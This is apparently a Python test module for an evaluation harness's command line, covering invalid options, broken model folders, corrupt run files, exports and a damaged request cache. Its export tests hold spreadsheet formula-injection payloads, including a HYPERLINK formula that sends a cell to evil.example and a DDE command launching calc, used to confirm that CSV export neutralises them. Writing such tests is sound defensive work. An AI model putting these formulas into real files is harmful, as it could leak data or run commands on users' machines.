"""Hostile command lines, model folders, run folders, exports and request caches."""

from __future__ import annotations

import json
import shutil
import sqlite3
from pathlib import Path

from tests.hostile.judge import Case, Error, Ok, Parallel
from tests.hostile.make import ROWS, RUNS, VALIDATE, csv_cells, files, printed, recorded, replay, results, samples
from tests.hostile.runner import Outcome

RUN = ("run", "{d}/task.yaml", *RUNS, "--no-cache")
REC = {"recorded.jsonl": recorded({"q1": "A", "q2": "B", "q3": "C"})}
NO_GPU = {"CUDA_VISIBLE_DEVICES": ""}

CLI = [
    Case("seed_negative", "cli", (RUN + ("--seed", "-1"),), files=files(),
         expect=Error("Invalid value for '--seed': Input should be greater than or equal to 0 (see ", "run --help)")),
    Case("limit_option_zero", "cli", (RUN + ("--limit", "0"),), files=files(),
         expect=Error("Invalid value for '--limit': Input should be greater than or equal to 1")),
    Case("limit_option_beyond_int64", "cli", (RUN + ("--limit", "99999999999999999999"),), files=files(),
         expect=Error("Invalid value for '--limit': Input should be less than or equal to 9223372036854775807")),
    Case("batch_size_zero", "cli", (RUN + ("--batch-size", "0"),), Error("Invalid value for '--batch-size'"),
         files=files()),
    Case("unknown_option", "cli", (RUN + ("--bogus",),), Error("No such option: --bogus"), files=files()),
    Case("unknown_command", "cli", (("evaluate", "x"),), Error("No such command 'evaluate'")),
    Case("device_cuda_without_gpu", "cli", (RUN + ("--device", "cuda"),), env=NO_GPU, files=files(),
         expect=Error("field '--device': no CUDA GPU is visible here for 'cuda'")),
    Case("device_cuda_99", "cli", (RUN + ("--device", "cuda:99"),), env=NO_GPU, files=files(),
         expect=Error("field '--device': no CUDA GPU is visible here for 'cuda:99'")),
    Case("device_tpu_7", "cli", (RUN + ("--device", "tpu:7"),), files=files(),
         expect=Error("field '--device': unknown device 'tpu:7' (choose auto, cpu, cuda or cuda:N)")),
    Case("unknown_backend", "cli", (RUN + ("--backend", "tgi"),), Error("unknown backend 'tgi'"), files=files(),
         model=True),
    Case("output_is_a_file", "cli", (replay("-o", "{d}/out.txt"),), files={**files(), **REC, "out.txt": "x"},
         expect=Error("out.txt: the output must be a folder of runs, not a file")),
    Case("dry_run_prints_text_literally", "cli", (("run", "{d}/task.yaml", "--dry-run"),), model=True,
         expect=Ok(printed("Question: Is :x: [bold]bold[/bold] :thumbs_up:?")),
         files=files(rows=[{**ROWS[0], "question": "Is :x: [bold]bold[/bold] :thumbs_up:?"}])),
]


def _model_folder(*names: str, bad: str | None = None):  # type: ignore[no-untyped-def]
    out = {f"m/{n}": "{}" for n in names}
    if bad:
        out[f"m/{bad}"] = "{not json"
    return out


MODEL = [
    Case("model_folder_with_only_config_json", "model", (RUN + ("--model", "{d}/m"),),
         Error("m: no tokenizer in the model folder"), files={**files(), **_model_folder("config.json")}),
    Case("model_folder_without_weights", "model", (RUN + ("--model", "{d}/m"),),
         Error("m: no weights in the model folder"),
         files={**files(), **_model_folder("config.json", "tokenizer.json")}),
    Case("invalid_tokenizer_config_json", "model", (RUN + ("--model", "{d}/m"),),
         Error("m/tokenizer_config.json: not a valid JSON file"),
         files={**files(), **_model_folder("config.json", bad="tokenizer_config.json")}),
    Case("invalid_config_json", "model", (RUN + ("--model", "{d}/m"),), Error("m/config.json: not a valid JSON file"),
         files={**files(), **_model_folder(bad="config.json")}),
    Case("hub_unreachable", "model", (RUN + ("--model", "nobody/x"),), fresh=True, timeout=30, files=files(),
         env={"HF_ENDPOINT": "http://127.0.0.1:9", "HF_HUB_OFFLINE": None},
         expect=Error("cannot reach the Hugging Face hub for 'nobody/x'")),
    Case("hub_offline", "model", (RUN + ("--model", "nobody/x"),), fresh=True, timeout=30, files=files(),
         env={"HF_HUB_OFFLINE": "1"}, expect=Error("model 'nobody/x' is not in the local Hugging Face cache")),
]


def _broken_run(folder: Path) -> None:
    (folder / "runs" / "old").mkdir(parents=True)
    (folder / "runs" / "old" / "results.json").write_text("{broken")


def _three_runs(d: Path, o: Outcome) -> str | None:
    runs = results(d)
    ids = {r["run_id"] for r in runs}
    lines = len(samples(d))
    fine = len(runs) == 3 == len(ids) and lines == 9
    return None if fine else f"{len(runs)} results, {len(ids)} run ids, {lines} samples"


def _warned_and_reported(d: Path, o: Outcome) -> str | None:
    if "harness: warning: " not in o.stderr or "results.json: not a valid results file" not in o.stderr:
        return f"no warning naming the file: {o.stderr[-300:]}"
    return None if (d / "r.html").is_file() else "no report written"


def _samples_broken(folder: Path) -> None:
    (f,) = (folder / "runs").glob("*/samples.jsonl")
    f.write_text("{broken\n")


def _corrupt_copy(folder: Path) -> None:
    (run,) = (folder / "runs").iterdir()
    shutil.copytree(run, folder / "bad")
    (folder / "bad" / "results.json").write_text("{broken")


REPORT_RUN = ("run", "{d}/task.yaml", "--model", "replay:{d}/recorded.jsonl", "-o", "{d}/runs", "--report",
              "{d}/r.html")
RUNS_CASES = [
    Case("three_runs_in_one_second", "runs", (Parallel((replay(),) * 3),), Ok(_three_runs), files={**files(), **REC}),
    Case("corrupt_results_json_in_output", "runs", (_broken_run, REPORT_RUN), Ok(_warned_and_reported),
         files={**files(), **REC}),
    Case("corrupt_samples_of_a_run", "runs", (replay(), _samples_broken, ("report", "{d}/runs", "-o", "{d}/r.html")),
         Ok(printed("samples.jsonl: not a valid samples file", "report: {d}/r.html (1 runs read: 1 shown")),
         files={**files(), **REC}),
    Case("report_of_only_corrupt_runs", "runs", (_broken_run, ("report", "{d}/runs", "-o", "{d}/r.html")),
         Error("runs/old/results.json: not a valid results file", "and no valid run beside it")),
    Case("compare_a_corrupt_run", "runs", (replay(), _corrupt_copy, ("compare", "{d}/bad", "{d}/bad")),
         Error("bad/results.json: not a valid results file"), files={**files(), **REC}),
]


def _inert_csv(d: Path, o: Outcome) -> str | None:
    live = [c for c in csv_cells(d / "exp" / "samples.csv") if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    return f"cells a spreadsheet runs: {live[:3]}" if live else None


def _jsonl_kept(d: Path, o: Outcome) -> str | None:
    rows = [json.loads(line) for line in (d / "exp" / "samples.jsonl").read_text().splitlines()]
    return None if rows[0]["output"] == PAYLOADS["q1"] else f"JSON lines changed the output: {rows[0]['output']!r}"


PAYLOADS = {"q1": '=HYPERLINK("http://evil.example/?x="&A1, "click")', "q2": "=cmd|' /C calc'!A0",
            "q3": "@SUM(1+1)*cmd"}
HOSTILE_ROWS = [{**r, "domain": g} for r, g in zip(ROWS, ["-2+3", "+cmd", "\tx"])]
EXPORT = [
    Case("csv_export_formulas", "export", (replay(), ("export", "{d}/runs", "-f", "csv", "-o", "{d}/exp")),
         Ok(_inert_csv), security=True,
         files={**files(rows=HOSTILE_ROWS), "recorded.jsonl": recorded(PAYLOADS)}),
    Case("jsonl_export_keeps_text", "export", (replay(), ("export", "{d}/runs", "-f", "jsonl", "-o", "{d}/exp")),
         Ok(_jsonl_kept), files={**files(rows=HOSTILE_ROWS), "recorded.jsonl": recorded(PAYLOADS)}),
    Case("export_unknown_format", "export", (("export", "{d}", "-f", "xml"),), Error("unknown format 'xml'")),
]

CACHE_RUN = ("run", "{d}/task.yaml", "--limit", "1", "--cache", "{d}/c.sqlite", *RUNS)
CACHE_CLEAR = ("cache", "clear", "--cache", "{d}/c.sqlite")
CACHE_INFO = ("cache", "info", "--cache", "{d}/c.sqlite")


def _sql(statement: str):  # type: ignore[no-untyped-def]
    def step(folder: Path) -> None:
        db = sqlite3.connect(folder / "c.sqlite")
        db.execute(statement)
        db.commit()
        db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        db.close()

    return step


def _damage_page(folder: Path) -> None:
    _sql("PRAGMA wal_checkpoint(TRUNCATE)")(folder)
    path = folder / "c.sqlite"
    data = bytearray(path.read_bytes())
    page = int.from_bytes(data[16:18], "big")
    data[page:2 * page] = b"\xa5" * page  # page 2: the table's rows
    path.write_bytes(bytes(data))


CACHE = [
    Case("cache_row_not_json", "cache", (CACHE_RUN, _sql("UPDATE responses SET response = '{not json'"), CACHE_RUN),
         Error("c.sqlite: the cached response", "is not a valid response", "harness cache clear --cache"),
         files=files(), model=True),
    Case("cache_page_damaged", "cache", (CACHE_RUN, _damage_page, CACHE_RUN),
         Error("c.sqlite: the request cache is damaged (database disk image is malformed)"), files=files(), model=True),
    Case("cache_clear_a_damaged_file", "cache", (CACHE_RUN, _damage_page, CACHE_CLEAR),
         Ok(printed("removed the damaged cache file {d}/c.sqlite")), files=files(), model=True),
    Case("cache_info_of_a_damaged_file", "cache", (CACHE_RUN, _damage_page, CACHE_INFO),
         Error("c.sqlite: the request cache is damaged"), files=files(), model=True),
    Case("cache_not_a_database", "cache", (CACHE_INFO,),
         Error("c.sqlite: the request cache is damaged (file is not a database)"), files={"c.sqlite": "x" * 5000}),
    Case("cache_clear_not_a_database", "cache", (CACHE_CLEAR,),
         Ok(lambda d, o: None if not (d / "c.sqlite").exists() else "the damaged file is still there"),
         files={"c.sqlite": "x" * 5000}),
    Case("cache_is_a_folder", "cache", (lambda d: (d / "c.sqlite").mkdir(), CACHE_INFO),
         Error("c.sqlite: cannot open the request cache")),
]

CASES = CLI + MODEL + RUNS_CASES + EXPORT + CACHE
__all__ = ["CASES", "VALIDATE"]
